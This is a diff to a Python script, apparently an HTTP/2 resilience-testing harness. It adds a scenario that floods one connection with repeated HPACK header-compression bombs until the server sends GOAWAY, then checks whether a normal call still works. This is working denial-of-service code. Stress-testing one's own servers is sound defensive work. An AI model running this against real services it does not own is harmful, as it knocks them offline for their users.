@@ -201,6 +201,33 @@ def bomb(target, end_headers):
     return report
 
 
+def bombs(target, seconds):
+    """HPACK bombs one after another on new streams of one connection,
+    for `seconds` at most or until the server sends GOAWAY or closes."""
+    c = Conn(target)
+    c.until(lambda: 0 in c.streams)
+    block = bomb_block(target, 12000)
+    sent = 0
+    start = time.monotonic()
+    c.sock.settimeout(0.2)
+    while c.goaway is None and not c.closed and time.monotonic() - start < seconds:
+        if not c.send(frame(HEADERS, END_HEADERS, 2 * sent + 1, block)):
+            break
+        sent += 1
+        try:
+            c.buf += c.sock.recv(65536)
+        except OSError:
+            pass
+        while len(c.buf) >= 9 and len(c.buf) >= 9 + int.from_bytes(c.buf[:3], "big"):
+            n = int.from_bytes(c.buf[:3], "big")
+            if c.buf[3] == GOAWAY:
+                c.goaway = int.from_bytes(c.buf[9 + 4:9 + 8], "big")
+            c.buf = c.buf[9 + n:]
+    c.sock.close()
+    return {"bombs": sent, "goaway": c.goaway, "seconds": round(time.monotonic() - start, 2),
+            "good": good_call(target)}
+
+
 def partial(target, streams, size):
     """`streams` calls each `size` bytes into a message of 1 MiB, never
     finished, on one connection."""
@@ -307,6 +334,8 @@ def main():
     target, scenario = plan["target"], plan["scenario"]
     if scenario == "bomb":
         report = bomb(target, plan["end_headers"])
+    elif scenario == "bombs":
+        report = bombs(target, plan.get("seconds", 5.0))
     elif scenario == "partial":
         report = partial(target, plan["streams"], plan["size"])
     elif scenario == "flood":
